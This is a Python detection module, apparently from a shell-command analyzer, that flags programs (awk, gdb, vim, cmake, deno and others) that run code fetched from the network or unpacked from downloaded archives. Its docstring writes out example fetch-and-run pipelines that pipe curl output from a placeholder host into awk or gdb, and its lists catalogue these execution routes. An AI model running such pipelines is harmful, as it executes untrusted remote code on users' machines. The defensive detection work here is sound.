"""Programs that take what they do from a file or from standard input, which may have been fetched.

    curl http://x/p.awk | awk -f -      curl http://x/t | gdb -x /dev/stdin      cmake -P x.cmake

Shells and languages do so by nature and follow it themselves; these are the others, each of which
can start programs from within. A file counts if this text fetched it. Not covered: data that a
program only reads.
"""

from __future__ import annotations

import re
from typing import TYPE_CHECKING

from cli_tuner.records.verdict import EffectKind
from cli_tuner.shell.paths import resolved

if TYPE_CHECKING:
    from cli_tuner.shell.call import Call
    from cli_tuner.shell.values import Value
    from cli_tuner.shell.words import Field

# Options whose argument is a file of commands or code.
_OPTIONS = {
    **dict.fromkeys("awk gawk mawk nawk sed gsed".split(), "-f --file"),
    **dict.fromkeys(("gdb", "lldb"), "-x --command -ix -s --source"),
    **dict.fromkeys("vi vim nvim ex gvim".split(), "-s -S -u --cmd"),
    "emacs": "-l --load --script",
    "cmake": "-P",
    "blender": "-P --python",
    "sqlite3": "-init",
    "R": "-f --file",
    "tmux": "-f",
    "screen": "-c",
    "hive": "-f -i",
    "pig": "-f",
    "bpftrace": "-f",
}
# Programs whose first operand is such a file, `-` being standard input.
_OPERANDS = frozenset(
    "deno bun ansible-playbook puppet bpftrace stap k6 octave gnuplot crystal newlisp".split()
)
# Programs that take commands from standard input if they are given no file of them.
_INPUT = frozenset("ed ex gdb lldb gnuplot octave R lftp ftp telnet debugfs tmux".split())
NAMES = frozenset({*_OPTIONS, *_OPERANDS, *_INPUT})
_STDIN = ("-", "/dev/stdin", "/dev/fd/0", "/proc/self/fd/0")


def content_of(call: Call, where: Field) -> Value | None:
    """What is in a file that this text wrote or fetched, or comes on standard input; else None."""
    if where.text in _STDIN:
        return call.stdin
    content = call.shell.files.get(resolved(where.text, call.shell.cwd))
    if content is None and where.value.taints & {"downloaded", "decoded"}:
        return where.value
    return content


def runs_given_code(call: Call) -> None:
    """Emit that the program runs what was fetched."""
    for option in _OPTIONS.get(call.name, "").split():
        for index, arg in enumerate(call.args[:-1]):
            if arg.text == option:
                _runs(call, content_of(call, call.args[index + 1]))
    if call.name in _OPERANDS:
        for arg in call.args:
            if arg.text[:1] != "-" or arg.text == "-":
                _runs(call, content_of(call, arg))
    if call.name in _INPUT:
        _runs(call, call.stdin)


def _runs(call: Call, content: Value | None) -> None:
    if content is not None and "downloaded" in content.taints and not content.known:
        call.effect(EffectKind.EXECUTE, content.source or None, "downloaded")


# What builds or sets up a source tree, which its reader looks at as such.
_BUILDS = re.compile(r"(?:configure|bootstrap|autogen|waf|gradlew|mvnw|setup|build)(?:\.\w+)?$")


def run_unpacked(call: Call, path: str) -> None:
    """Emit that a file runs which came out of an archive or a repository that was fetched."""
    for folder, how in call.shell.unpacked.items():
        below = folder == "." and not path.startswith(("/", "~", ".."))
        if (below or path.startswith(folder + "/")) and not _BUILDS.search(path):
            call.effect(EffectKind.EXECUTE, path, how)
